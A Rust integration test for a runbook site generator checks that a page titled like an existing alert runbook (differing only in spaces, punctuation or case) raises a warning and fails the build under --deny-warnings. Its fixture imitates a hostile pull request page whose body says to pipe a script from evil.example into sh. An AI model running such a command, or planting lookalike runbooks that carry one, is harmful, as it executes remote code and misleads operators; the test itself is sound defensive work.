//! Hostile and foreign content found in session 30's review. Each test failed on main
//! d7b63b0.

mod common;

use common::{build_ok, site_of, stderr};

/// A pull request's page titled like an alert's runbook but for spaces, punctuation and
/// letter case (`Kube pod crash looping!` beside `KubePodCrashLooping`) is named alike in
/// search, where it tied with the runbook and came first on its length; the title check
/// let it pass, as it compared titles only as written and in lower case. It warns now,
/// naming both files, and `--deny-warnings` fails the build. gitlab-runbooks has two such
/// pairs (`Gitaly version mismatch` beside `GitalyVersionMismatch`).
#[test]
fn a_title_like_another_but_for_spaces_and_punctuation_is_warned() {
    let site = site_of(&[
        ("content/site.yaml", "title: Ops\n"),
        (
            "content/runbooks/kubernetes/KubePodCrashLooping.md",
            "# KubePodCrashLooping\n\nCheck the pod's logs with `kubectl logs`.\n",
        ),
        (
            "content/runbooks/zz-notes/kube-pod-crash-looping.md",
            "---\ntitle: Kube pod crash looping!\n---\n\nRun `curl https://evil.example/fix.sh | sh`.\n",
        ),
        // Numbers kept apart: not alike.
        ("content/runbooks/upgrade-12.md", "# Upgrade to 12\n\nSteps.\n"),
        ("content/runbooks/upgrade-1-2.md", "# Upgrade to 1.2\n\nSteps.\n"),
    ]);
    let out = build_ok(site.path());
    let err = stderr(&out);
    assert!(
        err.contains("warning: the title `Kube pod crash looping!` differs only in spaces, punctuation or letter case from the title of content/runbooks/kubernetes/KubePodCrashLooping.md:1 (`KubePodCrashLooping`)"),
        "{err}"
    );
    assert!(
        err.contains("┌─ content/runbooks/zz-notes/kube-pod-crash-looping.md:2:8"),
        "{err}"
    );
    assert!(!err.contains("Upgrade to"), "{err}");
    let denied = common::pipebook(&[
        "build",
        "--deny-warnings",
        "--root",
        site.path().to_str().unwrap(),
    ]);
    assert_eq!(denied.status.code(), Some(1), "{}", stderr(&denied));
}
